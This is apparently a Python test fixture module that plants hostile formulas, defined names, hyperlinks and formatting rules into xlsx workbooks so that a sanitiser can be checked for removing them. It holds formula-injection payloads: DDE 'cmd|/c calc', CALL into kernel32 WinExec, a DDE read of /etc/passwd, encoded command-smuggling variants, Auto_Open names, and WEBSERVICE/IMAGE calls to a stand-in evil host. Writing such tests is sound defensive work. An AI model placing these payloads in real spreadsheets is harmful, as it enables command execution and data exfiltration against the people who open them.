"""Tricks in the cells, rules and names of a workbook: formulas that lead out of it."""

from tests.unit.workbook.annotate.packing import (
    BOOK,
    BOOK_RELATIONS,
    EVIL,
    OFFICE,
    SHEET,
    SHEET_RELATIONS,
    Parts,
    at_the_end,
    in_sheet,
    relate,
    with_cells,
)

# A formula each, which no copy may hold
FORMULAS = [
    "cmd|'/c calc'!A0",
    'DDE("soffice","/etc/passwd","A1")',
    f'WEBSERVICE("{EVIL}")',
    f'HYPERLINK("{EVIL}","点这里")',
    "[1]Sheet1!A1",
    "'[1]Sheet1'!$A$1",
    r"'\\evil\share\[x.xlsx]Sheet1'!A1",
    'CALL("kernel32","WinExec","JCJ","calc",1)',
    'EXEC("calc")',
    'REGISTER.ID("x","y")',
    'RTD("x",,"y")',
    "INDIRECT(\"'[x]S'!A1\")",
    f'_xlfn.IMAGE("{EVIL}")',
    'IF(A1="",EVALUATE("1"),2)',
    "sum(A1)+cmd_x007C_'/c calc'!A0",
    '"a_x0022_&amp;WEBSERVICE(_x0022_b"',
    "别处!A1",
    "未知名",
    "Macro1!A1()",
    "SQL.REQUEST(1)",
    "ſum(A1)",
    "SUM(A1)|A2",
    "Table1[合计]",
]


def link(parts: Parts) -> None:
    """Put link into a workbook."""
    identifier = relate(parts, SHEET_RELATIONS, f"{OFFICE}/hyperlink", EVIL, outside=True)
    links = f'<hyperlink ref="A1" r:id="{identifier}"/><hyperlink ref="A2" location="{EVIL}"/>'
    links += r'<hyperlink ref="A3" location="\'\\evil\[x.xlsx]S\'!A1"/>'.replace(r"\'", "'")
    in_sheet(parts, f"<hyperlinks>{links}</hyperlinks>")


def names(parts: Parts) -> None:
    """Put names into a workbook."""
    names = "".join(
        f"<definedName {name}>{formula}</definedName>"
        for name, formula in [
            ('name="一"', "cmd|'/c calc'!A0"),
            ('name="二"', "[1]Sheet1!$A$1"),
            ('name="_xlnm.Auto_Open"', "报表!$A$1"),
            ('name="Auto_Open"', "报表!$A$1"),
            ('name="三" function="1" xlm="1" vbProcedure="1"', "报表!$A$1"),
            ('name="四"', f'WEBSERVICE("{EVIL}")'),
        ]
    )
    new = f"{names}</definedNames>".encode()
    parts[BOOK] = parts[BOOK].replace(b"</definedNames>", new)
    with_cells(parts, '<c r="A900"><f>一+三</f><v>1</v></c>')


def rules(parts: Parts) -> None:
    """Put rules into a workbook."""
    parts[SHEET] = parts[SHEET].replace(
        b"<conditionalFormatting",
        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9"><formula>'
        f'WEBSERVICE("{EVIL}")</formula></cfRule></conditionalFormatting>'
        '<conditionalFormatting sqref="A2"><cfRule type="dataBar" priority="8"><dataBar>'
        '<cfvo type="formula" val="[1]S!A1"/><cfvo type="max"/><color rgb="FF00FF00"/>'
        "</dataBar></cfRule></conditionalFormatting><conditionalFormatting".encode(),
        1,
    )
    rule = '<dataValidation type="list" sqref="A1"><formula1>[1]S!A1</formula1></dataValidation>'
    parts[SHEET] = parts[SHEET].replace(b"</dataValidations>", f"{rule}</dataValidations>".encode())


def formulas(parts: Parts) -> None:
    """Put formulas into a workbook."""
    cells = [f'<c r="A9{n}" t="str"><f>{text}</f><v>=1</v></c>' for n, text in enumerate(FORMULAS)]
    rows = "".join(f'<row r="9{n}">{cell}</row>' for n, cell in enumerate(cells))
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", f"{rows}</sheetData>".encode())


def shapes_of_formulas(parts: Parts) -> None:
    """Put shapes of formulas into a workbook."""
    evil = f'WEBSERVICE("{EVIL}")'
    cells = [
        f'<c r="A900"><f t="shared" ref="A900:B900" si="0">{evil}</f><v>1</v></c>',
        '<c r="B900"><f t="shared" si="0"/><v>2</v></c>',
        f'<c r="C900"><f t="array" ref="C900:D900">{evil}</f><v>3</v></c>',
        '<c r="E900"><f t="dataTable" ref="E900" r1="A1" dt2D="0"/><v>4</v></c>',
        f'<c r="F900"><v>5</v><f>SUM(A1)</f><f>{evil}</f></c>',
        f'<c r="G900"><is><f>{evil}</f></is></c>',
        f'<c r="H900"><f>SUM(<v>A1</v>)</f></c><f>{evil}</f>',
        '<c r="I900"><f t="shared" si="1">SUM(A1)</f><v>6</v></c>',
        f'<c r="J900"><f t="shared" si="1">{evil}</f><v>7</v></c>',
    ]
    with_cells(parts, "".join(cells))


def unlisted_sheet(parts: Parts) -> None:
    """Put unlisted sheet into a workbook."""
    parts["xl/worksheets/sheet7.xml"] = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1"><f>[1]S!A1</f></c></row></sheetData></worksheet>'
    )
    relate(parts, BOOK_RELATIONS, f"{OFFICE}/worksheet", "worksheets/sheet7.xml")


def extensions(parts: Parts) -> None:
    """Put extensions into a workbook."""
    at_the_end(
        parts,
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.'
        'microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/'
        'office/excel/2006/main"><x14:dataValidations><x14:dataValidation type="list">'
        "<x14:formula1><xm:f>[1]S!A1</xm:f></x14:formula1></x14:dataValidation>"
        "</x14:dataValidations></ext></extLst>",
    )
